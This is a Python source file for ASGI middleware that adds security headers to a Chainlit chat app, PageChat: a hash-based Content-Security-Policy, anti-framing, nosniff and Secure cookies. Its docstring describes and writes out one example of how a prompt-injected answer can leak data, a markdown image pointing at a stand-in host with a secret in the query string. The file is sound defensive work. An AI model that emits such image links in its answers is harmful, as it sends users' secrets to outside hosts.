"""Headers every answer carries: a Content-Security-Policy, no framing, no sniffing, a
Referrer-Policy, and `Secure` cookies over HTTPS.

The page's CSP keeps Chainlit working and closes the usual exfiltration path of a
prompt-injected answer: a markdown image pointing elsewhere (`![](https://evil/?q=secret)`) is
fetched by the browser on every reopen of the chat. Images load only from the server itself,
`data:` and `blob:` (`img-src 'self' data: blob:`); scripts only from the server and the inline
scripts of the page itself (their SHA-256 hashes, computed from the page being sent);
connections only back to the server. `frame-ancestors 'none'` and `X-Frame-Options: DENY` keep
other sites from framing the app (clickjacking).

Cookies get `Secure` when PAGECHAT_COOKIE_SECURE is set, or when the request came over HTTPS:
directly, or through a proxy in PAGECHAT_TRUSTED_PROXIES that says so with X-Forwarded-Proto
(uvicorn's proxy-headers support turns that into the request's scheme).
"""

from __future__ import annotations

import base64
import hashlib
import re
import zlib

from starlette.types import ASGIApp, Message, Receive, Scope, Send

PAGE_POLICY = (
    "default-src 'self'; script-src 'self' {scripts}; style-src 'self' 'unsafe-inline'; "
    "img-src 'self' data: blob:; font-src 'self' data:; connect-src 'self'; "
    "media-src 'self' data: blob:; worker-src 'self' blob:; frame-src 'self'; "
    "object-src 'none'; base-uri 'self'; form-action 'self'; frame-ancestors 'none'"
)
OTHER_POLICY = "default-src 'none'; frame-ancestors 'none'"  # JSON, assets, files
# FastAPI's /docs and /redoc pages load Swagger UI / ReDoc from a CDN (when turned on).
DOCS_PATHS = ("/docs", "/redoc")
DOCS_POLICY = "frame-ancestors 'none'"
_INLINE_SCRIPT = re.compile(
    rb"<script\b(?![^>]*\bsrc\s*=)[^>]*>(.*?)</script>", re.DOTALL | re.IGNORECASE
)


def inline_script_hashes(html: bytes) -> list[str]:
    """CSP source expressions for each inline <script> of `html`."""
    return [
        "'sha256-" + base64.b64encode(hashlib.sha256(body).digest()).decode() + "'"
        for body in _INLINE_SCRIPT.findall(html)
    ]


def page_policy(html: bytes) -> str:
    return PAGE_POLICY.format(scripts=" ".join(inline_script_hashes(html))).replace("  ", " ")


class SecurityHeaders:
    """ASGI middleware adding the headers above to every HTTP answer."""

    def __init__(self, app: ASGIApp, cookie_secure: bool = False) -> None:
        self.app = app
        self.cookie_secure = cookie_secure

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return
        secure = self.cookie_secure or scope.get("scheme") == "https"
        docs = scope["path"].startswith(DOCS_PATHS)
        start: Message | None = None
        body: list[bytes] = []

        async def send_with_headers(message: Message) -> None:
            nonlocal start
            if message["type"] == "http.response.start":
                headers = _headers(message, secure)
                if _is_html(headers) and not docs:
                    start = {**message, "headers": headers}  # the CSP needs the page's scripts
                    return
                policy = DOCS_POLICY if docs else OTHER_POLICY
                await send({**message, "headers": _with_defaults(headers, policy)})
            elif start is not None and message["type"] == "http.response.body":
                body.append(message.get("body", b""))
                if message.get("more_body", False):
                    return
                page = b"".join(body)
                policy = page_policy(_decoded(page, start["headers"]))
                await send({**start, "headers": _with_defaults(start["headers"], policy)})
                await send({"type": "http.response.body", "body": page, "more_body": False})
            else:
                await send(message)

        await self.app(scope, receive, send_with_headers)


def _headers(message: Message, secure: bool) -> list[tuple[bytes, bytes]]:
    out = []
    for name, value in message.get("headers", []):
        attributes = {part.strip().lower() for part in value.split(b";")[1:]}
        if secure and name.lower() == b"set-cookie" and b"secure" not in attributes:
            value += b"; Secure"
        out.append((name, value))
    return out


def _decoded(body: bytes, headers: list[tuple[bytes, bytes]]) -> bytes:
    """The page's text, whatever Chainlit's gzip middleware did to it."""
    encoding = next(
        (v.strip().lower() for n, v in headers if n.lower() == b"content-encoding"), b""
    )
    if encoding in (b"gzip", b"deflate"):
        return zlib.decompress(body, wbits=47)  # 32 + 15: gzip or zlib header, detected
    return body


def _is_html(headers: list[tuple[bytes, bytes]]) -> bool:
    return any(
        n.lower() == b"content-type" and v.lower().startswith(b"text/html") for n, v in headers
    )


def _with_defaults(headers: list[tuple[bytes, bytes]], policy: str) -> list[tuple[bytes, bytes]]:
    present = {name.lower() for name, _ in headers}
    defaults = {
        b"content-security-policy": policy.encode(),
        b"x-frame-options": b"DENY",
        b"x-content-type-options": b"nosniff",
        b"referrer-policy": b"same-origin",
    }
    return headers + [(name, value) for name, value in defaults.items() if name not in present]
